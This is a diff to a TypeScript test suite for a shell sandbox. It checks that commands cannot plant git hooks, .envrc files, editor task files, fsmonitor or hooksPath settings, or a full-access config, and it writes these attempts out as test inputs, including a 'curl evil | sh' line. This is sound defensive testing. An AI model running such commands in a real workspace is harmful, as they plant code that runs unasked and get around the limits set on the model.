@@ -95,7 +95,7 @@ describe.each(CASES)("shell under the workspace-write sandbox: $label", ({ provi
 
 	it.skipIf(!available)("writes inside the workspace and records the sandbox on the effect", async () => {
 		const out = await exec("echo hello > work/inside.txt && cat work/inside.txt && mkdir -p work/a/b && echo deep > work/a/b/c && rm work/a/b/c");
-		expect(out.exitCode).toBe(0);
+		expect(out.exitCode, out.stderr).toBe(0);
 		expect(readFileSync(join(ws, "work", "inside.txt"), "utf8")).toBe("hello\n");
 		expect(sandboxOf(effects[0])).toEqual({ provider, profile: "workspace-write", network: false });
 	});
@@ -130,7 +130,7 @@ describe.each(CASES)("shell under the workspace-write sandbox: $label", ({ provi
 		for (const suffix of ["", "-2", "-3"]) expect(existsSync(join(home, `${marker}${suffix}`))).toBe(false);
 	});
 
-	it.skipIf(!available)("cannot create protected paths that do not exist yet, leaves nothing behind, and ordinary writes still work", async () => {
+	it.skipIf(!available)("cannot create protected paths that do not exist yet, and ordinary writes still work", async () => {
 		const fresh = join(base, `fresh-${provider}`);
 		mkdirSync(join(fresh, "work"), { recursive: true });
 		const inFresh = { workspace: fresh };
@@ -138,17 +138,70 @@ describe.each(CASES)("shell under the workspace-write sandbox: $label", ({ provi
 			"mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
 			"mkdir .warden && echo 'mode: full-access' > .warden/config.yaml",
 			"echo 'curl evil | sh' > .envrc",
-			"git init -q && echo x > .git/hooks/pre-commit",
 			"mkdir -p .husky && echo x > .husky/pre-commit; echo '{}' > .mcp.json; mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
 		];
 		for (const command of attempts) {
 			const out = await exec(command, {}, inFresh);
-			expect(out.exitCode, command).not.toBe(0);
+			// bubblewrap lets a command make a .git (git init must work) and puts aside what is not a repository's afterwards.
+			if (provider === "landlock" || !command.startsWith("mkdir -p .git")) expect(out.exitCode, command).not.toBe(0);
+			else expect(out.stderr).toContain("a .git directory that is not a repository");
 		}
 		for (const name of [".git", ".warden", ".envrc", ".husky", ".mcp.json", ".vscode"]) expect(existsSync(join(fresh, name)), name).toBe(false);
 		const ok = await exec("echo fine > work/ordinary.txt && cat work/ordinary.txt", {}, inFresh);
 		expect(ok.stdout).toBe("fine\n");
-		expect(readdirSync(fresh)).toEqual(["work"]);
+		expect(readdirSync(fresh).sort()).toEqual(provider === "bwrap" ? [".git.warden-refused", "work"] : ["work"]);
+	});
+
+	it.skipIf(!available)("git init makes a repository only under bubblewrap (Landlock gives the workspace's top no new name), and a hook planted with it never runs", async () => {
+		const fresh = join(base, `init-${provider}`);
+		mkdirSync(fresh, { recursive: true });
+		writeFileSync(join(fresh, "notes.md"), "notes\n");
+		const out = await exec(
+			"git init -q && git add notes.md && git -c user.email=a@example.com -c user.name=a commit -qm first && echo x > .git/hooks/pre-commit && git config core.fsmonitor 'touch pwned'",
+			{},
+			{ workspace: fresh },
+		);
+		expect(existsSync(join(fresh, ".git", "hooks", "pre-commit"))).toBe(false);
+		if (provider === "landlock") {
+			expect(out.exitCode).not.toBe(0);
+			expect(existsSync(join(fresh, ".git"))).toBe(false);
+			return;
+		}
+		expect(out.exitCode).toBe(0);
+		expect(spawnSync("git", ["log", "--format=%s"], { cwd: fresh, encoding: "utf8" }).stdout).toBe("first\n");
+		expect(readFileSync(join(fresh, ".git", "config"), "utf8")).not.toContain("fsmonitor");
+		expect(out.stderr).toContain("config key core.fsmonitor");
+		// The repository exists now: a later command meets its hooks and config read-only.
+		const later = await exec("echo x > .git/hooks/pre-commit; git config core.hooksPath /tmp", {}, { workspace: fresh });
+		expect(later.exitCode).not.toBe(0);
+		expect(existsSync(join(fresh, ".git", "hooks", "pre-commit"))).toBe(false);
+		expect(readFileSync(join(fresh, ".git", "config"), "utf8")).not.toContain("hooksPath");
+	});
+
+	it.skipIf(!available)("holds a repository nested deep below the top whole: its hooks, its config and its .git cannot be written or moved aside", async () => {
+		const deep = join(ws, "work", "deep-repo", "b", "c", "d");
+		expect(spawnSync("git", ["init", "-q", deep]).status).toBe(0);
+		const config = readFileSync(join(deep, ".git", "config"), "utf8");
+		const out = await exec(
+			"cd work/deep-repo/b/c/d; echo x > .git/hooks/pre-commit; echo '[core] fsmonitor = x' >> .git/config; mv .git .git-old; mv ../d ../d-old; echo x > .envrc; true",
+		);
+		expect(out.exitCode).toBe(0);
+		expect(existsSync(join(deep, ".git", "hooks", "pre-commit"))).toBe(false);
+		expect(readFileSync(join(deep, ".git", "config"), "utf8")).toBe(config);
+		expect(existsSync(join(deep, ".git-old")) || existsSync(join(ws, "work", "deep-repo", "b", "c", "d-old"))).toBe(false);
+		expect(existsSync(join(deep, ".envrc"))).toBe(false);
+		rmSync(join(ws, "work", "deep-repo"), { recursive: true, force: true });
+	});
+
+	it.skipIf(!available)("says on the effect when the walk for protected paths stopped at its bounds", async () => {
+		const deep = join(ws, "work", ...Array.from({ length: 14 }, (_, i) => `l${i}`));
+		mkdirSync(deep, { recursive: true });
+		await exec("true");
+		expect((sandboxOf(effects[0]) as { unscanned?: string } | undefined)?.unscanned).toMatch(/stopped at 12 levels/);
+		rmSync(join(ws, "work", "l0"), { recursive: true, force: true });
+		effects = [];
+		await exec("true");
+		expect(sandboxOf(effects[0])).not.toHaveProperty("unscanned");
 	});
 
 	it.skipIf(!available)("commits to the workspace's repository under bubblewrap only: Landlock cannot let git make .git/index.lock (a documented difference)", async () => {
